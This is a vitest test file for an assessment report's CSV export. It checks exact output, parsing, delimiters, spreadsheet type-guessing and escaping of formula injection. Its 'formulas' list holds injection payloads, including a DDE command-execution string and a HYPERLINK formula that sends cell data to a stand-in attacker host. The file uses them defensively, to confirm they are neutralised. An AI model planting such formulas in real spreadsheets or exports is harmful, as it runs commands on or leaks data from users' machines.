/** The CSV of the report: expected bytes for a small content; everything else is read with csv-parse. */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Instrument } from '../../../src/assessment/instrument.ts';
import { buildReport } from '../../../src/assessment/scores/report.ts';
import { reportCsv } from '../../../src/exports/report/report-csv.ts';
import { anyAnswers, instrument } from '../../assessment/arbitraries.ts';
import { blueprint } from '../../assessment/blueprint.ts';
import { anyText } from '../../codec/visitors.ts';
import { smallContent } from '../../content/small.ts';

const csvOf = (given: Instrument, answers: Parameters<typeof buildReport>[1]) =>
  reportCsv(buildReport(given, answers), given);

/** Reads RFC 4180 strictly. */
const read = (csv: string): Record<string, string>[] =>
  parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' });

/** What a spreadsheet makes of a cell, in any of the usual languages: it tries a date, then a number, then keeps the text. */
function guessed(cell: string): 'date' | 'number' | 'text' {
  const date =
    /^(\d{1,4})[./-](\d{1,2})(?:[./-](\d{2,4}))?\.?$|^\d{1,2}[ -]?(?:jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec)/i;
  const [whole, first, second] = date.exec(cell) ?? [];
  if (whole && (!first || (Number(first) >= 1 && Number(second) <= 31))) return 'date';
  return /^[-+]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:e[-+]?\d+)?%?$/i.test(cell) ? 'number' : 'text';
}

const reverse = new Set(blueprint.flatMap((row) => (row.reverse ? row.id : [])));

describe('reportCsv', () => {
  it('writes the expected bytes for a small content', () => {
    const content = smallContent({
      'principles/5/5.4.md': (text) => text.replace('of 5.4.', 'of \\"5.4\\", ö.'),
    });
    const answers = new Map([
      ['12.1', { me: 3, us: 1 }],
      ['2.3', { me: 0, us: 0 }],
      ['5.4', { me: 3, us: 3 }],
      ['2.1', { me: 'not-applicable', us: 2 }],
      ['12.3', { me: 'not-applicable', us: 'not-applicable' }],
    ] as const);
    expect(csvOf(content.instrument, answers)).toBe(
      [
        '\ufeffcode,question,principle,item,principle title,statement us,statement me,key,reverse,competency,tier,level,demand,me,us,me counts,us counts,total,gap,standing,answered',
        'Q12.1,12.1,12,1,Principle 12,Statement of 12.1.,Statement of 12.1.,no,no,SPEED,tier ground,,demand 1,3,1,3,1,4,-2,middle,yes',
        'Q2.3,2.3,2,3,Principle 2,Statement of 2.3.,Statement of 2.3.,no,no,,tier floor,level warm,,0,0,0,0,0,0,low,yes',
        'Q5.4,5.4,5,4,Principle 5,"Statement of ""5.4"", ö.","Statement of ""5.4"", ö.",yes,no,SPEED,tier roof,,,3,3,3,3,6,0,strength,yes',
        'Q2.1,2.1,2,1,Principle 2,Statement of 2.1.,Statement of 2.1.,yes,no,CARE,tier ground,level warm,,not applicable,2,not applicable,2,4,,middle,yes',
        'Q12.3,12.3,12,3,Principle 12,Statement of 12.3.,Statement of 12.3.,yes,no,SPEED,tier floor,,demand 2,not applicable,not applicable,not applicable,not applicable,,,,yes',
        'Q2.2,2.2,2,2,Principle 2,Statement of 2.2.,Statement of 2.2.,yes,no,CARE,tier roof,level warm,,,,,,,,,no',
        'Q5.1,5.1,5,1,Principle 5,Statement of 5.1.,Statement of 5.1.,no,no,CARE,tier ground,,,,,,,,,,no',
        'Q5.2,5.2,5,2,Principle 5,Statement of 5.2.,Statement of 5.2.,no,no,,tier floor,level warm,,,,,,,,,no',
        'Q2.5,2.5,2,5,Principle 2,Statement of 2.5.,Statement of 2.5.,no,no,,tier roof,,demand 3,,,,,,,,no',
        'Q12.2,12.2,12,2,Principle 12,Statement of 12.2.,Statement of 12.2.,no,no,,tier ground,level warm,,,,,,,,,no',
        'Q2.4,2.4,2,4,Principle 2,Statement of 2.4.,Statement of 2.4.,no,no,,tier floor,,,,,,,,,,no',
        'Q5.3,5.3,5,3,Principle 5,Statement of 5.3.,Statement of 5.3.,no,no,,tier roof,level warm,,,,,,,,,no',
        '',
      ].join('\r\n'),
    );
  });

  it('has the answer of every question, and empty cells for an unanswered one', () => {
    fc.assert(
      fc.property(anyAnswers(), (answers) => {
        const rows = read(csvOf(instrument, answers));
        expect(rows.map(({ question }) => question)).toEqual(instrument.questions.map(({ id }) => id));
        for (const row of rows) {
          const answer = answers.get(row.question ?? '');
          const isReverse = reverse.has(row.question ?? '');
          const rating = (response: unknown) =>
            response === 'not-applicable' ? 'not applicable' : String(response ?? '');
          const counts = (response: unknown) =>
            isReverse && typeof response === 'number' ? 3 - response : response;
          const numbers = [counts(answer?.me), counts(answer?.us)].filter(
            (value) => typeof value === 'number',
          );
          const [me = 0, us = me] = numbers;
          expect(row).toMatchObject({
            reverse: isReverse ? 'yes' : 'no',
            me: rating(answer?.me),
            us: rating(answer?.us),
            'me counts': rating(counts(answer?.me)),
            'us counts': rating(counts(answer?.us)),
            total: numbers.length > 0 ? String(me + us) : '',
            gap: numbers.length === 2 ? String(us - me) : '',
            answered: answer ? 'yes' : 'no',
          });
        }
      }),
      { numRuns: 30 },
    );
  });

  it('has semicolons and decimal commas when asked for', () => {
    const report = buildReport(instrument, new Map([['1.1', { me: 3, us: 1 }]]));
    const rows = parse(reportCsv(report, instrument, 'semicolon'), { bom: true, delimiter: ';' });
    expect(rows).toEqual(parse(reportCsv(report, instrument), { bom: true }));
  });

  it('has a code in every row of which no spreadsheet makes a number or a date', () => {
    const rows = read(csvOf(instrument, new Map([['9.8', { me: 1, us: 2 }]])));
    expect(guessed('9.8')).toBe('date');
    expect(guessed('3.10')).not.toBe('text');
    for (const { code = '', question } of rows) {
      expect(guessed(code)).toBe('text');
      expect(code).toBe(`Q${question}`);
    }
    for (const { question: _, ...cells } of rows)
      for (const cell of Object.values(cells)) expect(guessed(cell)).not.toBe('date');
  });

  it('has the two halves of every id as whole numbers', () => {
    const rows = read(csvOf(instrument, new Map()));
    expect(rows.map(({ principle, item }) => `${principle}.${item}`)).toEqual(
      instrument.questions.map(({ id }) => id),
    );
  });
});

/** Texts that a spreadsheet takes for formulas. An organisation may have them in its own content. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-1+1',
  '-2',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

const withWords = (words: string): Instrument => ({
  ...instrument,
  questions: instrument.questions.map((question) => ({
    ...question,
    statements: { me: words, us: words },
    level: words,
  })),
  principles: instrument.principles.map((principle) => ({ ...principle, title: words })),
});

describe('reportCsv with formulas in the content', () => {
  it.each(formulas)('writes %j as a text', (formula) => {
    const [row] = read(csvOf(withWords(formula), new Map([['1.1', { me: 3, us: 1 }]])));
    expect(row).toMatchObject({
      'principle title': `'${formula}`,
      'statement us': `'${formula}`,
      'statement me': `'${formula}`,
      level: `'${formula}`,
      gap: '-2',
    });
  });

  it('has no cell that begins like a formula but plain numbers, and does not change other texts', () => {
    fc.assert(
      fc.property(fc.oneof(anyText, fc.constantFrom(...formulas)), anyAnswers(), (words, answers) => {
        const whole = words.toWellFormed();
        const rows = read(Buffer.from(csvOf(withWords(whole), answers)).toString());
        for (const cell of rows.flatMap((row) => Object.values(row)))
          if (/^[=+\-@\t\r＝＋－＠]/.test(cell)) expect(cell).toMatch(/^-[1-3]$/);
        for (const row of rows) expect([whole, `'${whole}`]).toContain(row['statement us']);
      }),
      { numRuns: 100 },
    );
  });
});
